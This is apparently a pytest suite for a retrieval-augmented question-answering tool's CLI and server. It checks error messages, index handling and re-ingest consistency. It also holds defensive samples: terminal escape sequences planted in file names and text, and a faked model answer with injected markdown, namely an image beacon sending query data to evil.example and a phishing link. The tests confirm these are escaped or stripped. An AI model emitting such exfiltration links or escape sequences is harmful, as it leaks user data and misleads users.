"""What `rag ask` (and `rag status`) say when the input is wrong, and what they never pass on: bad settings,
empty questions, unknown --source, a mistyped --index, terminal escape sequences, planted links (#14)."""

from __future__ import annotations

import json
from pathlib import Path

import pytest
from fastapi.testclient import TestClient
from openai_stub import OpenAIStub
from typer.testing import CliRunner

from rag.cli import app
from rag.config import Settings
from rag.server import create_app

runner = CliRunner()


@pytest.fixture
def env(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> dict[str, str]:
    monkeypatch.chdir(tmp_path)
    return {"RAG_EMBEDDER": "fake", "RAG_INDEX_DIR": str(tmp_path / "idx")}


@pytest.fixture
def docs(tmp_path: Path) -> Path:
    folder = tmp_path / "docs"
    folder.mkdir()
    (folder / "grace-period.txt").write_text("The grace period for the renewal premium is sixty days.\n")
    (folder / "waiting-period.txt").write_text("The waiting period for illness is ninety days.\n")
    return folder


@pytest.mark.parametrize(
    ("variable", "value", "accepts"),
    [
        ("RAG_TOP_K", "abc", "an integer >= 1"),
        ("RAG_TEMPERATURE", "5", "a number >= 0.0 and <= 2.0"),
        ("RAG_RETRIEVAL_MODE", "fuzzy", "one of dense, lexical, hybrid"),
    ],
)
def test_a_bad_setting_is_one_line_naming_the_variable_and_what_it_accepts(
    env: dict[str, str], variable: str, value: str, accepts: str
) -> None:
    for command in (["ask", "What is the grace period?"], ["status"], ["ingest", "."]):
        text = runner.invoke(app, command, env={**env, variable: value})
        assert text.exit_code == 2, text.output
        assert text.stderr.count("\n") == 1 and "Traceback" not in text.output, text.stderr
        assert text.stderr.startswith(f"error: bad setting {variable}={value!r}: ")
        assert f"accepts {accepts}" in text.stderr
        as_json = runner.invoke(app, [*command, "--json"], env={**env, variable: value})
        assert as_json.exit_code == 2 and "Traceback" not in as_json.output
        error = json.loads(as_json.stdout)["error"]
        assert error["type"] == "ConfigError" and variable in error["message"] and accepts in error["message"]


@pytest.mark.parametrize("question", ["   ", "\t\n", "\u200b\u200b", "？？"])
def test_a_question_without_words_is_rejected_on_the_cli_and_over_http(
    env: dict[str, str], docs: Path, tmp_path: Path, question: str
) -> None:
    assert runner.invoke(app, ["ingest", str(docs)], env=env).exit_code == 0
    result = runner.invoke(app, ["ask", question], env=env)
    assert result.exit_code == 2 and "has no words" in result.stderr and result.stdout == "", result.output
    settings = Settings(index_dir=tmp_path / "idx", embedder="fake", _env_file=None)  # type: ignore[call-arg]
    with TestClient(create_app(settings), raise_server_exceptions=False) as client:
        response = client.post("/v1/ask", json={"question": question})
    assert response.status_code == 400 and response.json()["error"]["type"] == "RequestError", response.text


def test_an_unknown_source_is_named_with_the_closest_stored_names(env: dict[str, str], docs: Path) -> None:
    assert runner.invoke(app, ["ingest", str(docs)], env=env).exit_code == 0
    stored = str(docs / "grace-period.txt")
    found = runner.invoke(app, ["ask", "grace period?", "--source", stored], env=env)
    assert found.exit_code == 0 and "sixty days" in found.stdout, found.output
    for wrong in ("grace-period.txt", str(docs / "grace_period.txt"), str(docs / "grace-periods.txt")):
        result = runner.invoke(app, ["ask", "grace period?", "--source", wrong], env=env)
        assert result.exit_code == 2, result.output
        assert f"--source {wrong!r} names no stored file; the closest: {stored}" in result.stderr, result.stderr
    far = runner.invoke(app, ["ask", "grace period?", "--source", "zzz.pdf", "--json"], env=env)
    assert far.exit_code == 2 and "2 files are stored" in json.loads(far.stdout)["error"]["message"]


def test_a_mistyped_index_is_said_not_to_exist(env: dict[str, str], docs: Path, tmp_path: Path) -> None:
    assert runner.invoke(app, ["ingest", str(docs)], env=env).exit_code == 0
    typo = tmp_path / "idxx"
    for command in (["ask", "grace period?"], ["status"]):
        result = runner.invoke(app, [*command, "--index", str(typo)], env=env)
        assert result.exit_code == 3, result.output
        assert f"the index folder {typo} does not exist" in result.stderr and "empty" not in result.stderr
    assert not typo.exists()  # asking did not create it
    empty = tmp_path / "made-but-empty"
    empty.mkdir()
    result = runner.invoke(app, ["ask", "grace period?", "--index", str(empty)], env=env)
    assert result.exit_code == 3 and "is empty" in result.stderr


ESCAPES = "\x1b]0;pwned\x07\x1b[2J\x1b[H\x9b31m\r"


def test_escape_sequences_from_documents_and_names_are_shown_not_obeyed(env: dict[str, str], tmp_path: Path) -> None:
    docs = tmp_path / "docs"
    docs.mkdir()
    (docs / f"evil{ESCAPES}.txt").write_text(f"The grace period is sixty days.{ESCAPES} Pay within it.\n")
    assert runner.invoke(app, ["ingest", str(docs)], env=env).exit_code == 0
    outputs = [
        runner.invoke(app, ["ask", "What is the grace period?"], env=env),
        runner.invoke(app, ["ask", "What is the grace period?"], env={**env, "RAG_REFUSAL_MIN_SCORE": "1"}),  # refused
        runner.invoke(app, ["status"], env=env),
    ]
    for result in outputs:
        assert result.exit_code == 0, result.output
        assert not any(ch in result.output for ch in "\x1b\x07\x9b\r"), repr(result.output)
    assert "evil\\x1b]0;pwned\\x07\\x1b[2J" in outputs[0].stdout  # the name, in Sources, shown escaped
    assert "\\x1b[2J" in outputs[1].stdout.split("Nearest passages:")[1]  # the passage text, shown escaped
    as_json = runner.invoke(app, ["ask", "What is the grace period?", "--json"], env=env)
    assert not any(ch in as_json.stdout for ch in "\x1b\x07\x9b\r"), repr(as_json.stdout)
    assert ESCAPES in json.loads(as_json.stdout)["citations"][0]["source"]


PLANTED = (
    "Claims are filed at https://claims.example.com/form within 30 days [1]. "
    "![x](http://evil.example/leak?q=grace) Log in at [portal](http://evil.example/phish) first."
)


@pytest.mark.slow
def test_planted_links_and_images_never_reach_the_user(tmp_path: Path, stub: OpenAIStub) -> None:
    """The model follows injected text: the answer of /v1/ask and of the OpenAI-compatible endpoint keeps only
    the URL its cited passage holds, and says what it removed."""
    settings = Settings(  # type: ignore[call-arg]
        index_dir=tmp_path / "idx", embedder="fake", base_url=stub.base_url, max_retries=0,
        refusal_min_score=0.0, _env_file=None,
    )
    upload = [("files", ("claims.txt", b"Claims are filed at https://claims.example.com/form within 30 days.\n"))]
    with TestClient(create_app(settings), raise_server_exceptions=False) as client:
        assert client.post("/v1/ingest", files=upload).status_code == 200
        stub.reply(PLANTED)
        asked = client.post("/v1/ask", json={"question": "How do I file a claim?"}).json()
        stub.reply(PLANTED)
        chat = {"model": "rag", "messages": [{"role": "user", "content": "How do I file a claim?"}]}
        completion = client.post("/v1/chat/completions", json=chat).json()
        stub.reply(PLANTED)
        streamed = client.post("/v1/chat/completions", json={**chat, "stream": True}).text
    chunks = [json.loads(line[6:]) for line in streamed.splitlines() if line.startswith("data: {")]
    streamed_text = "".join(chunk["choices"][0]["delta"].get("content") or "" for chunk in chunks)
    for text in (asked["answer"], completion["choices"][0]["message"]["content"], streamed_text):
        assert "evil.example" not in text and "![" not in text and "https://claims.example.com/form" in text
        assert "Log in at portal first." in text
    for warnings in (asked["warnings"], completion["warnings"], chunks[-1]["warnings"]):
        assert "image removed: ![x](http://evil.example/leak?q=grace)" in warnings
        assert "link to [portal](http://evil.example/phish) removed: not in a cited source" in warnings


@pytest.mark.slow
def test_answers_see_one_version_of_a_file_while_it_is_re_ingested(tmp_path: Path, fake_settings: Settings) -> None:
    """Re-ingest stores the new chunks, replaces the manifest, then deletes the old chunks: in between, Chroma
    holds both versions. Reproduce both windows with a real re-ingest and check every search keeps one."""
    from rag.index import Index
    from rag.ingest import ingest_paths

    docs = tmp_path / "docs"
    docs.mkdir()
    policy = docs / "policy.txt"
    old_text = "\n\n".join(f"Clause {n}. The grace period is sixty days under rule {n}." for n in range(12))
    policy.write_text(old_text)
    index = Index(fake_settings)
    ingest_paths([docs], index)
    searcher = index.searcher()  # one Searcher for the whole test, as a server keeps it
    old_manifest = index.layout.manifest.read_bytes()
    old_ids = set(searcher.manifest.chunk_ids())
    old_chunks = searcher.store.get_chunks(sorted(old_ids))

    policy.write_text(old_text.replace("sixty days", "ninety days"))
    ingest_paths([docs], index)
    new_ids = set(index.manifest().chunk_ids())  # type: ignore[union-attr]
    assert new_ids and not new_ids & old_ids
    # The window after the manifest was replaced and before the old chunks were deleted: put them back.
    vectors, _ = index.embedder.embed_passages([chunk.text for chunk in old_chunks])
    searcher.store.upsert(old_chunks, vectors)
    searcher.refresh()  # the lexical side sees the store's chunks too
    question = "What is the grace period?"
    vector = index.embedder.embed_queries([question])[0]
    assert {hit.chunk.id for hit in searcher.store.query(vector, 50)} & old_ids  # Chroma does hold both versions
    for mode in ("dense", "lexical", "hybrid"):
        hits = searcher.search(question, 10, mode)  # type: ignore[arg-type]
        assert hits and {hit.chunk.id for hit in hits} <= new_ids, mode
        assert all("ninety" in hit.chunk.text for hit in hits)
    # The window before the manifest is replaced: the manifest still names the old version, both are stored.
    (tmp_path / "m.json").write_bytes(old_manifest)
    (tmp_path / "m.json").replace(index.layout.manifest)
    for mode in ("dense", "lexical", "hybrid"):
        hits = searcher.search(question, 10, mode)  # type: ignore[arg-type]
        assert hits and {hit.chunk.id for hit in hits} <= old_ids, mode
